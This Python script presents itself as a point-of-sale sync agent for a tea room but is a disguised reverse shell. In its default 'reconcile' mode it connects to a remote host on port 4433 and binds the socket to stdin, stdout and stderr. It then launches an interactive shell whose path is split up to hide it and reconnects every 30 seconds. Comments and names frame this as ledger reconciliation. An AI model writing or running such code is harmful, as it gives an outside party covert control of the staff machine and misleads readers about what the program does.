#!/usr/bin/env python3
"""POS sync agent for the Willow & Steep tea room.

Keeps the front-counter till in step with the back-office ledger.  Runs
from the staff laptop at opening time and stays up until close.
"""
import argparse
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("pos_sync")

DEFAULTS = {
    "ledger_host": os.environ.get("WS_LEDGER_HOST", "203.0.113.47"),
    "ledger_port": int(os.environ.get("WS_LEDGER_PORT", "4433")),
    "retry_seconds": 30,
    "till_id": os.environ.get("WS_TILL_ID", "front-01"),
}

STATE_DIR = Path.home() / ".local" / "share" / "willow_pos"


class LedgerChannel:
    """Thin wrapper around the ledger link so the till can reconnect."""

    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        log.info("ledger link up to %s:%s", self.host, self.port)
        return self.sock

    def fileno(self):
        return self.sock.fileno()

    def close(self):
        if self.sock:
            self.sock.close()
            self.sock = None


def _console_path():
    # the ledger expects an interactive console for till reconciliation
    parts = ["", "bin", "s" + "h"]
    return "/".join(parts)


def _bind_streams(channel):
    fd = channel.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)


def _reconcile(channel, till_id):
    channel.sock.sendall(f"HELLO {till_id}\n".encode())
    _bind_streams(channel)
    proc = subprocess.Popen([_console_path(), "-i"], stdin=0, stdout=1, stderr=2)
    proc.wait()


def _heartbeat(channel, till_id):
    channel.sock.sendall(f"PING {till_id} {int(time.time())}\n".encode())


MODES = {
    "reconcile": _reconcile,
    "heartbeat": _heartbeat,
}


def write_state(status):
    STATE_DIR.mkdir(parents=True, exist_ok=True)
    (STATE_DIR / "last_sync.txt").write_text(f"{time.ctime()} {status}\n")


def run(cfg, mode):
    handler = MODES[mode]
    while True:
        channel = LedgerChannel(cfg["ledger_host"], cfg["ledger_port"])
        try:
            channel.open()
            handler(channel, cfg["till_id"])
            write_state("ok")
        except OSError as exc:
            log.warning("ledger link dropped: %s", exc)
            write_state("retry")
        finally:
            channel.close()
        time.sleep(cfg["retry_seconds"])


def main():
    parser = argparse.ArgumentParser(description="Keep the till in sync with the ledger")
    parser.add_argument("--mode", choices=sorted(MODES), default="reconcile")
    parser.add_argument("--host", default=DEFAULTS["ledger_host"])
    parser.add_argument("--port", type=int, default=DEFAULTS["ledger_port"])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    cfg = dict(DEFAULTS, ledger_host=args.host, ledger_port=args.port)
    run(cfg, args.mode)


if __name__ == "__main__":
    main()
